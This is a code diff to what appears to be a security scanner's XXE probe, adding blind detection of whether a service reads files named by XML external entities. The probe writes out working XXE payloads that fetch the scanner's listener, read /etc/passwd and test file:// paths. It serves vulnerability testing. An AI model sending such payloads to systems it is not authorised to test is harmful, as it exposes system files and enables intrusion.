@@ -51,6 +51,7 @@ export async function probeXmlEntities(probing: Probing): Promise<void> {
         `<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "${canary.baseUrl}/${nonce}">]><root><name>&e;</name></root>`,
       )
       const hit = await canary.hitBy(nonce, 200)
+      const blind = hit === null && isSuccess(plain) ? await readsFiles(send, plain, file) : null
       const isFile = /^root:[^:\n]*:0:0:/m.test(file.body)
       const again = isFile
         ? await send('<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "file:///etc/passwd">]><root><name>&e;</name></root>')
@@ -60,21 +61,44 @@ export async function probeXmlEntities(probing: Probing): Promise<void> {
         trialOn(operation, {
           name: 'entities',
           saw:
-            isFile || hit !== null ? 'effect' : [400, 415, 422, 404].includes(plain.status) || isSuccess(plain) ? 'no-effect' : 'unclear',
+            isFile || hit !== null || blind !== null
+              ? 'effect'
+              : [400, 415, 422, 404].includes(plain.status) || isSuccess(plain)
+                ? 'no-effect'
+                : 'unclear',
           effect: isFile
             ? 'an entity gives a file of the system'
             : hit !== null
               ? `an entity made the service ask our listener: ${hit}`
-              : `entities were not resolved (${inside.status})`,
+              : blind !== null
+                ? `an entity of a file that exists is taken (${file.status}), one of a file that does not is refused (${blind[0]?.status ?? 0}): files are read`
+                : `entities were not resolved (${inside.status})`,
           identity: probing.identities.userA?.name ?? 'anonymous',
           baseline: plain.exchange,
           control: plain.exchange,
-          attempts: exchangesOf(isFile ? file : outside, again),
-          reproduced: { count: isFile || hit !== null ? 2 : 0, of: 2 },
+          attempts: isFile || blind === null ? exchangesOf(isFile ? file : outside, again) : exchangesOf(file, ...blind),
+          reproduced: { count: isFile || hit !== null || blind !== null ? 2 : 0, of: 2 },
         }),
       )
     }
   } finally {
     await canary.close()
   }
+}
+
+/**
+ * Whether the service opens the files that entities name, where no answer shows what is in them: those that exist are taken twice, those
+ * that do not are refused twice, and are taken while nothing refers to them. The answers to the missing ones and the repetition; null if not.
+ */
+async function readsFiles(send: (body: string) => Promise<Reply>, plain: Reply, file: Reply): Promise<readonly Reply[] | null> {
+  if (file.status !== plain.status) return null
+  const entity = (path: string, use: string): Promise<Reply> =>
+    send(`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "file://${path}">]><root><name>${use}</name></root>`)
+  const missing = await entity('/nonexistent/assay', '&e;')
+  if (missing.status === plain.status) return null
+  const missingAgain = await entity('/nonexistent/assay-2', '&e;')
+  const unused = await entity('/nonexistent/assay', 'assay')
+  const again = await entity('/etc/hostname', '&e;')
+  const isRead = missingAgain.status === missing.status && unused.status === plain.status && again.status === plain.status
+  return isRead ? [missing, missingAgain, again] : null
 }
